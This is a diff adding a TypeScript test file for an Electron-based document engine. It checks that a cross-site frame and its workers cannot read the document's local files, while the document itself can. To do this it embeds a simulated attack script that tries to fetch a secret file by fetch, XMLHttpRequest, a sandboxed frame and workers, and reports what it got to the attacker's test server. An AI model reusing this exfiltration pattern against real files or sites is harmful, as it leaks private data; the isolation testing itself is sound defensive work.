@@ -1,0 +1,120 @@
+/** A document's files are its own, also while frames of other sites are in it. */
+import assert from 'node:assert/strict';
+import { EventEmitter, once } from 'node:events';
+import { Readable } from 'node:stream';
+import { test } from 'node:test';
+import type { WebContents } from 'electron';
+import { loadPage } from '../../main/engine/loading/load-page.ts';
+import type { Files, Source, StoredFile } from '../../main/input/source.ts';
+import { readHostPattern } from '../../main/network/policy.ts';
+import { newRun, startEngine } from '../support/engine.ts';
+import { serveWeb, type Routes } from '../support/web-server.ts';
+
+const script =
+  (text: string): Routes[string] =>
+  (_request, response) =>
+    response.writeHead(200, { 'content-type': 'text/javascript' }).end(text);
+
+/** Asks in each way that gives a text, and tells its own server what came. */
+const steal = `
+  const tell = (way, text) => fetch('/came?' + encodeURIComponent(way + ': ' + text));
+  const ask = (way, init) => fetch('platen://job/secret.txt', init)
+    .then((answer) => answer.text()).then((text) => tell(way, text), () => tell(way, ''));`;
+
+const other: Routes = {
+  '/': `<script>${steal}
+    const answer = new Promise((resolve) => {
+      const asking = new XMLHttpRequest();
+      asking.open('GET', 'platen://job/secret.txt');
+      asking.onloadend = () => resolve(tell('XMLHttpRequest', asking.responseText));
+      asking.send();
+    });
+    const child = document.createElement('iframe');
+    child.sandbox = 'allow-scripts';
+    child.srcdoc = '<script>fetch("platen://job/secret.txt").then((answer) => answer.text())' +
+      '.then((text) => parent.postMessage(text, "*"), () => parent.postMessage("", "*"))</scr' + 'ipt>';
+    document.documentElement.append(child);
+    addEventListener('message', ({ data }) => tell('a frame without an origin', data));
+    ask('fetch');
+    ask('fetch without CORS', { mode: 'no-cors' });
+    new Worker('/worker.js');
+    new SharedWorker('/worker.js');
+  </script>`,
+  '/worker.js': script(`${steal} ask(self.constructor.name, { referrerPolicy: 'no-referrer' });`),
+};
+
+const ways = [
+  'DedicatedWorkerGlobalScope',
+  'SharedWorkerGlobalScope',
+  'XMLHttpRequest',
+  'a frame without an origin',
+  'fetch without CORS',
+  'fetch',
+];
+
+test('a frame of another site, and its workers, read none of the files of the document they are in', async () => {
+  const came: string[] = [];
+  const counted = new EventEmitter();
+  const all = once(counted, 'all');
+  const listening: Routes = {
+    '/came': ({ url = '' }, response) => {
+      came.push(decodeURIComponent(url.split('?')[1] ?? ''));
+      response.end();
+      if (came.length === ways.length) counted.emit('all');
+    },
+  };
+  await using web = await serveWeb({ ...other, ...listening });
+  await withDocument(`<iframe src="${web.url}/"></iframe>`, () => all);
+  assert.deepEqual(
+    came.sort(),
+    ways.map((way) => `${way}: `),
+  );
+});
+
+test('beside a frame of another site the document has its files, by addresses from its root too', async () => {
+  await using web = await serveWeb({ '/': 'other' });
+  const html = `<body><script>
+    const framed = async (src) => {
+      const frame = document.createElement('iframe');
+      frame.src = src;
+      await new Promise((resolve) => document.body.append(Object.assign(frame, { onload: resolve })));
+      return frame;
+    };
+    const text = async (address) => (await fetch(address)).text();
+    const done = (async () => {
+      await framed('${web.url}/');
+      const { contentDocument } = await framed('/secret.txt');
+      const { word } = await import('/folder/module.js');
+      return [await text('/secret.txt'), await text('secret.txt'), word, contentDocument.body.innerText];
+    })();
+  </script>`;
+  const read = await withDocument(html, (page) => page.executeJavaScript('done'));
+  assert.deepEqual(read, ['SECRET', 'SECRET', 'beside', 'SECRET']);
+});
+
+const contents: Readonly<Record<string, readonly [type: string, text: string]>> = {
+  'secret.txt': ['text/plain', 'SECRET'],
+  'folder/module.js': ['text/javascript', "export { word } from './beside.js';"],
+  'folder/beside.js': ['text/javascript', "export const word = 'beside';"],
+};
+
+const files: Files = (path) => {
+  const [contentType, text] = contents[path] ?? [];
+  if (contentType === undefined || text === undefined) return Promise.resolve(undefined);
+  const stream = Readable.toWeb(Readable.from([Buffer.from(text)])) as StoredFile['stream'];
+  return Promise.resolve({ contentType, size: text.length, stream });
+};
+
+/** Loads a document with those files beside it, for as long as `use` looks at it. */
+async function withDocument(html: string, use: (page: WebContents) => Promise<unknown>): Promise<unknown> {
+  const allow = [readHostPattern('127.0.0.1')].filter((one) => one !== undefined);
+  await using engine = await startEngine({ network: { rules: { policy: 'intranet', allow, deny: [] } } });
+  const source: Source = {
+    ...{ kind: 'document', path: 'index.html', contentType: 'text/html', scripts: true },
+    ...{ bytes: Buffer.from(html), files },
+  };
+  return await engine.withWindow(newRun(''), source, async (window, limited) => {
+    await loadPage(window, source, limited);
+    return use(window.contents);
+  });
+}
